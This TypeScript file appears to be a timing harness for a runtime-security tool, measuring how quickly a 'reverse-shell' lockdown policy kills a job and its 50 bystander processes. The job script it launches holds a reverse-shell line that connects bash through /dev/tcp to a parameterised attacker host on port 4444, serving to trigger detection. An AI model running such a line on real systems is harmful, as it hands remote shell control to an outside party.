import { readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import type { Event } from '@runwarden/events'
import type { Lab } from '../packages/lab/src/index.ts'

/** Processes of the job that wait when it is locked down, in sessions of their own. */
const bystanders = 50

/**
 * From an act that a policy ends the job for to the end of the job's last process, both as the kernel has stamped them, in
 * milliseconds.
 * @param rounds runs that are made, one after the other
 */
export async function lockdownTimes(
  lab: Lab,
  { command, attacker, place }: { command: string; attacker: string; place: string },
  rounds: number,
): Promise<number[]> {
  const job = `
for i in $(seq ${bystanders}); do setsid sleep 600 & done
bash -c 'exec 3<>/dev/tcp/${attacker}/4444; exec sh -c "sleep 600" <&3 >&3'`
  const times: number[] = []
  for (let round = 0; round < rounds; round++) {
    const out = join(place, 'locked-down')
    const args = ['run', '--quiet', '--out', out, '--lockdown', 'reverse-shell', '--']
    const { status, stderr } = await lab.runner.exec(command, [...args, 'bash', '-c', job], {
      cwd: place,
    })
    if (status !== 137)
      throw new Error(`the job was not ended, but ended with ${status}: ${stderr}`)
    times.push(lastedAfterAct(join(out, 'events.ndjson')))
    rmSync(out, { recursive: true })
  }
  return times
}

function lastedAfterAct(file: string): number {
  const lines = readFileSync(file, 'utf8').split('\n').filter(Boolean)
  const events = lines.map((line) => JSON.parse(line) as Event)
  const act = events.find((event) => event.kind === 'detection' && event.id === 'reverse-shell')
  const ends = events.filter((event) => event.kind === 'process.exit' && event.signal === 9)
  if (act === undefined || ends.length <= bystanders)
    throw new Error(`${ends.length} processes of ${bystanders} and more were seen to be killed`)
  return Math.max(...ends.map(({ time }) => time)) - act.time
}
